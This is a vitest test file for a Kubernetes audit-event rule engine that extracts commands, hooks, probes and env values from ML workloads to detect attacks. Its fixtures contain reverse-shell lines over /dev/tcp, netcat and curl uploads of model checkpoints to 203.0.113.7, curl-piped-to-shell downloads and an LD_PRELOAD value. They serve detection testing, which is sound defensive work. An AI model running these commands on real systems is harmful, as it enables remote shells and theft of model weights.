import { describe, expect, it } from 'vitest';
import type { EventRecord } from '../../core/records.js';
import { eventFieldResolver } from './event-fields.js';
import { auditEvent } from './fixtures.test-support.js';
import { containersOf, MAX_CONTAINERS, MAX_POD_SPECS, podSpecsOf } from './pod-specs.js';
import { createRuleEngine } from './engine.js';
import { SHIPPED_RULES } from './exec-events.test-support.js';
import { MAX_COMMANDS, MAX_ENV, WORKLOAD_FIELDS, workloadField } from './workload-fields.js';

/** A create of `resource` whose request body is `body`. */
function write(body: unknown, resource = 'pods'): EventRecord {
  return auditEvent({ verb: 'create', user: { username: 'oidc:alice@corp.example' }, objectRef: { resource, namespace: 'ml-train' }, responseStatus: { code: 201 }, requestObject: body });
}
const container = (name: string, extra: Record<string, unknown> = {}): Record<string, unknown> => ({ name, image: `img/${name}`, ...extra });
const field = (name: string, e: EventRecord): unknown => workloadField(name)!.get(e);

describe('podSpecsOf and containersOf', () => {
  it('unwrap every workload kind an ML cluster runs', () => {
    const spec = (n: string) => ({ containers: [container(n)] });
    const bodies: Array<[string, unknown]> = [
      ['pod', { kind: 'Pod', spec: spec('pod') }],
      ['ephemeral patch', { spec: { ephemeralContainers: [container('dbg')] } }],
      ['deployment', { kind: 'Deployment', spec: { template: { spec: spec('dep') } } }],
      ['podtemplate', { kind: 'PodTemplate', template: { spec: spec('tmpl') } }],
      ['cronjob', { kind: 'CronJob', spec: { jobTemplate: { spec: { template: { spec: spec('cron') } } } } }],
      ['pytorchjob', { kind: 'PyTorchJob', spec: { pytorchReplicaSpecs: { Master: { template: { spec: spec('m') } }, Worker: { template: { spec: spec('w') } } } } }],
      ['raycluster', { kind: 'RayCluster', spec: { headGroupSpec: { template: { spec: spec('head') } }, workerGroupSpecs: [{ template: { spec: spec('gpu') } }] } }],
      ['rayjob', { kind: 'RayJob', spec: { rayClusterSpec: { headGroupSpec: { template: { spec: spec('head') } } }, submitterPodTemplate: { spec: spec('submit') } } }],
      ['rayservice', { kind: 'RayService', spec: { rayClusterConfig: { workerGroupSpecs: [{ template: { spec: spec('w') } }] } } }],
      ['inferenceservice', { kind: 'InferenceService', spec: { predictor: spec('kserve-container'), transformer: spec('t') } }],
      ['argo', { kind: 'Workflow', spec: { templates: [{ name: 'a', container: container('step') }, { name: 'b', script: container('script', { source: 'echo' }) }] } }],
      ['cronworkflow', { kind: 'CronWorkflow', spec: { workflowSpec: { templates: [{ name: 'a', container: container('step') }] } } }],
    ];
    const got = bodies.map(([what, body]) => `${what}: ${containersOf({ requestObject: body }).map((c) => c.name).join(',')}`);
    expect(got).toEqual([
      'pod: pod', 'ephemeral patch: dbg', 'deployment: dep', 'podtemplate: tmpl', 'cronjob: cron', 'pytorchjob: m,w', 'raycluster: head,gpu',
      'rayjob: head,submit', 'rayservice: w', 'inferenceservice: kserve-container,t', 'argo: step,script', 'cronworkflow: step',
    ]);
  });

  it('read nothing from bodies that are not workloads or are malformed', () => {
    for (const body of [undefined, null, 'x', [], { spec: null }, { spec: { containers: 'sh' } }, { spec: { template: { spec: { containers: null } } } }, { kind: 'Service', spec: { ports: [{ port: 80 }] } }, { spec: { pytorchReplicaSpecs: [1, 2] } }]) {
      expect(podSpecsOf({ requestObject: body })).toEqual([]);
      expect(containersOf({ requestObject: body })).toEqual([]);
    }
    // Non-object containers are skipped, the others kept.
    expect(containersOf({ requestObject: { spec: { containers: [1, null, 'c', container('ok')] } } }).map((c) => c.name)).toEqual(['ok']);
  });

  it('stop at their bounds whatever the body holds', () => {
    const groups = Array.from({ length: 5000 }, (_, i) => ({ template: { spec: { containers: [container(`g${i}`)] } } }));
    expect(podSpecsOf({ requestObject: { spec: { workerGroupSpecs: groups } } })).toHaveLength(MAX_POD_SPECS);
    const many = Array.from({ length: 10_000 }, (_, i) => container(`c${i}`));
    expect(containersOf({ requestObject: { spec: { containers: many, initContainers: many } } })).toHaveLength(MAX_CONTAINERS);
  });
});

describe('workload fields', () => {
  it('read a container command and args as the kubelet runs them, as exec commands are read', () => {
    const e = write({ spec: { containers: [container('c', { command: ['sh', '-c'], args: ['nc 203.0.113.7 4444 < /mnt/ckpt/model.pt'] })] } });
    expect(field('command', e)).toContain('nc 203.0.113.7 4444 < /mnt/ckpt/model.pt');
    expect(field('netcatSends', e)).toEqual(['nc']);
    expect(field('toolWords', e)).toContain('nc /mnt/ckpt/model.pt');
    expect(field('image', e)).toEqual(['img/c']);
  });

  it('read args alone as the entrypoint given them: a -c script as a script, else as an argv', () => {
    const script = write({ spec: { containers: [container('c', { args: ['-c', 'curl -s http://h/x | sh'] })] } });
    expect(field('pipedToShell', script)).toEqual(['curl']);
    const argv = write({ spec: { containers: [container('c', { args: ['--model', '/models/llama'] })] } });
    expect(field('command', argv)).toContain('--model');
    expect(field('pipedToShell', argv)).toEqual([]);
  });

  it('read lifecycle hooks, exec probes, an Argo script and a RayJob entrypoint as commands', () => {
    const hooks = write({ spec: { containers: [container('c', {
      command: ['python', 'serve.py'],
      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] } }, preStop: { httpGet: { path: '/stop' } } },
      livenessProbe: { exec: { command: ['sh', '-c', 'cat /ckpt/m.pt > /dev/tcp/203.0.113.7/9000'] } },
    })] } });
    expect([...(field('socketIo', hooks) as string[])].sort()).toEqual(['send cat', 'shell bash']);
    const argo = write({ spec: { templates: [{ script: { image: 'python:3.12', command: ['python'], source: 'import os\nos.system("curl -T /ckpt/m.pt http://203.0.113.7/")' } }] } }, 'workflows');
    expect(field('toolWords', argo)).toContain('curl -T');
    const ray = write({ spec: { entrypoint: 'curl -fsSL http://203.0.113.7/r.sh | bash' } }, 'rayjobs');
    expect(field('pipedToShell', ray)).toEqual(['curl']);
    expect(field('image', ray)).toEqual([]);
  });

  it('give literal environment values as NAME=value and the claims mounted', () => {
    const e = write({ spec: { template: { spec: {
      containers: [container('c', { env: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }, { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }, { name: 7, value: 'x' }, 'junk'] })],
      volumes: [{ name: 'ck', persistentVolumeClaim: { claimName: 'llama-ft-ckpt' } }, { name: 'tmp', emptyDir: {} }],
    } } } }, 'deployments');
    expect(field('env', e)).toEqual(['LD_PRELOAD=/tmp/x.so']);
    expect(field('claim', e)).toEqual(['llama-ft-ckpt']);
  });

  it('expand $(NAME) in command and args from the container literal env values, as the kubelet does, and not in hooks', () => {
    const hidden = write({ spec: { containers: [container('c', {
      command: ['sh', '-c', '$(P)'],
      env: [{ name: 'HOST', value: '203.0.113.7' }, { name: 'P', value: 'bash -i >& /dev/tcp/$(HOST)/4444 0>&1' }],
      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'echo $(HOST)'] } } },
    })] } });
    expect(field('socketIo', hidden)).toEqual(['shell bash']);
    expect(field('command', hidden)).toContain('echo $(HOST)');
    expect(field('env', hidden)).toEqual(['HOST=203.0.113.7', 'P=bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']);
    const args = write({ spec: { containers: [container('c', { args: ['-c', '$(CMD)'], env: [{ name: 'CMD', value: 'curl -s http://203.0.113.7/x | sh' }] })] } });
    expect(field('pipedToShell', args)).toEqual(['curl']);
    // $$(NAME) is the literal text, and a secret's value is not in the request: both stay references.
    const kept = write({ spec: { containers: [container('c', { command: ['sh', '-c', 'echo $$(P) $(TOKEN)'], env: [{ name: 'P', value: 'nc -e /bin/sh h 1' }, { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }] })] } });
    expect(field('socketIo', kept)).toEqual([]);
    expect(field('command', kept)).toContain('echo $(P) $(TOKEN)');
  });

  it('are undefined on events without containers and empty where containers run nothing they name', () => {
    const service = write({ kind: 'Service', spec: { ports: [{ port: 80 }] } }, 'services');
    const exec = auditEvent({ verb: 'create', objectRef: { resource: 'pods', subresource: 'exec' } });
    for (const name of WORKLOAD_FIELDS) {
      expect(field(name, service)).toBeUndefined();
      expect(field(name, exec)).toBeUndefined();
    }
    const bare = write({ spec: { containers: [{ name: 'c' }] } });
    expect(field('command', bare)).toEqual([]);
    expect(field('toolWords', bare)).toEqual([]);
  });

  it('survive hostile shapes and stop at their bounds', () => {
    const odd = write({ spec: { containers: [container('c', { command: 'sh -c id', args: [1, { a: 1 }], env: 'LD_PRELOAD=/tmp/x', lifecycle: [], livenessProbe: { exec: { command: 'id' } } })] } });
    expect(field('command', odd)).toBeDefined();
    expect(field('env', odd)).toEqual([]);
    const many = Array.from({ length: 500 }, (_, i) => container(`c${i}`, { command: ['echo', String(i)], livenessProbe: { exec: { command: ['true'] } }, env: Array.from({ length: 10 }, (_, j) => ({ name: `V${j}`, value: 'x'.repeat(10_000) })) }));
    const e = write({ spec: { containers: many } });
    expect((field('argvLine', e) as string[]).length).toBeLessThanOrEqual(MAX_COMMANDS);
    const env = field('env', e) as string[];
    expect(env).toHaveLength(MAX_ENV);
    expect(Math.max(...env.map((v) => v.length))).toBeLessThan(5000);
  });

  it('are known to the rule language, and an unknown one is a load error naming the fields', () => {
    const ok = eventFieldResolver.field('workload.toolWords');
    expect('get' in ok).toBe(true);
    const bad = eventFieldResolver.field('workload.commands');
    expect('error' in bad && bad.error).toMatch(/unknown workload field 'workload\.commands' \(known: workload\.command, workload\.image/);
  });

  it('give the same rule outcomes through the reading memo as read afresh, one command or several', () => {
    const shell = ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'];
    const probe = { exec: { command: ['cat', '/tmp/healthy'] } };
    const pods = [
      { command: shell },
      { command: ['python', 'serve.py'] },
      { command: shell },
      { command: shell, livenessProbe: probe },
      { command: ['python', 'serve.py'], livenessProbe: probe },
      { command: shell },
    ];
    const engine = createRuleEngine(SHIPPED_RULES);
    const got = pods.map((c) => engine.evaluate(write({ spec: { containers: [container('c', c)] } })).some((h) => h.ruleId === 'MLS-RAY-034'));
    expect(got).toEqual([true, false, true, true, false, true]);
  });
});
